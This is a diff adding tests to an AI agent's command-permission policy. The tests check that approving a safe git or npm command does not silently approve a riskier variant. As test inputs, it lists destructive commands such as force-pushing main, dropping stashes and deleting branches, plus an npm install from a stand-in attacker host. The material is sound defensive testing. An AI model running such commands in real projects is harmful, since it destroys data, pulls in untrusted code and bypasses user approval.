@@ -172,7 +172,26 @@ describe('rules that a question offers', () => {
     const call = toolCall('bash', 'execute', { command: 'git add -A && git commit -m x' });
     const given = { allow: [{ tool: 'bash', argv: ['git', 'add'] }] };
     expect((await policy('mutating', given).assess(call, facts.workspace)).rules).toEqual([
-      { tool: 'bash', argv: ['git', 'commit'] },
+      { tool: 'bash', argv: ['git', 'commit'], risk: 'mutating' },
     ]);
+  });
+
+  test.each([
+    ['git push origin main', 'git push --force origin main'],
+    ['git stash', 'git stash drop'],
+    ['git branch new', 'git branch -D main'],
+    ['npm install', 'npm install https://evil.example/a.tgz'],
+    ['git push --force-with-lease', 'git push --force-with-lease evil main'],
+  ])('what is offered for `%s` does not allow `%s`', async (command, worse) => {
+    const decide = async (line: string, rules: readonly Rule[]): Promise<string> =>
+      (
+        await policy('mutating', { allow: rules }).assess(
+          toolCall('bash', 'execute', { command: line }),
+          facts.workspace,
+        )
+      ).decision;
+    const call = toolCall('bash', 'execute', { command });
+    const { rules = [] } = await policy('mutating').assess(call, facts.workspace);
+    expect([await decide(command, rules), await decide(worse, rules)]).toEqual(['allow', 'ask']);
   });
 });
